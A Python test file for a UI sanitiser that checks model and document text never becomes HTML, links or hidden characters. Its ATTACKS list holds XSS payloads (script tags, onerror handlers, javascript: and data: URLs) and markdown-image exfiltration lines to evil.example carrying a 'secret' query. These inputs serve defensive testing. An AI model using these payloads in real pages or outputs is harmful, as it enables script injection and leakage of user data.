"""Text of documents and models never becomes markup, a link, or something unseen."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ui.safety import clean, defanged, emphasised, label, marked, plain

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>body{display:none}</style>",
    "![x](https://evil.example/?q=secret)",
    "[click](https://evil.example)",
    "[click](javascript:alert(1))",
    "<https://evil.example>",
    "[x]: https://evil.example\n\n[x]",
    "https://evil.example/path www.evil.example ftp://evil.example",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "**<b onclick=alert(1)>x</b>**",
    "`<iframe src=//evil.example>`",
    '"><script>alert(1)</script>',
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "![a][b]\n\n[b]: //evil.example/pixel.png",
]


class Tags(HTMLParser):
    def __init__(self, body: str) -> None:
        super().__init__()
        self.found: set[str] = set()
        self.attributes: list[tuple[str, str | None]] = []
        self.feed(body)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.add(tag)
        self.attributes += attrs


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_have_no_effect(attack: str) -> None:
    for body, allowed in (
        (plain(attack), set()),
        *((marked(attack, 2, end), {"mark"}) for end in range(2, len(attack))),
        (emphasised(attack), {"strong", "em", "code", "br"}),
    ):
        tags = Tags(body)
        assert tags.found <= allowed
        assert tags.attributes == []
        assert not re.search(r"\w://|\bwww\.", html.unescape(body), re.IGNORECASE)


@given(st.text())
def test_any_text_is_harmless(text: str) -> None:
    assert Tags(plain(text)).found == set()
    assert Tags(emphasised(text)).found <= {"strong", "em", "code", "br"}
    assert Tags(emphasised(text)).attributes == []


@given(st.text(alphabet=st.characters(categories=["L", "N", "P", "Zs", "S"]), max_size=60))
def test_a_documents_text_is_shown_letter_by_letter(text: str) -> None:
    assert html.unescape(plain(text)) == defanged(clean(text))


def test_emphasis_of_a_generated_sentence_is_kept() -> None:
    assert emphasised("**Ten** years, *not* `9`.") == (
        "<strong>Ten</strong> years, <em>not</em> <code>9</code>."
    )


def test_a_documents_markdown_is_not_interpreted() -> None:
    assert plain("**Ten** years") == "**Ten** years"


def test_invisible_characters_are_removed() -> None:
    hidden = "pass\u200bword\u202e\U000e0041\ufeff\u00ad\x00\u3164 next\u2028line\r\n"
    assert clean(hidden) == "password next\nline\n"


def test_highlight_stands_at_its_characters() -> None:
    assert marked("The <b> is 5.", 4, 7) == "The <mark>&lt;b&gt;</mark> is 5."


def test_addresses_are_defanged() -> None:
    assert defanged("see https://a.example and WWW.b.example") == (
        "see https[:]//a.example and WWW[.]b.example"
    )


def test_label_has_no_markdown() -> None:
    assert label("# A *b*\n[c](d) :red[e]") == (r"\# A \*b\* \[c\]\(d\) \:red\[e\]")
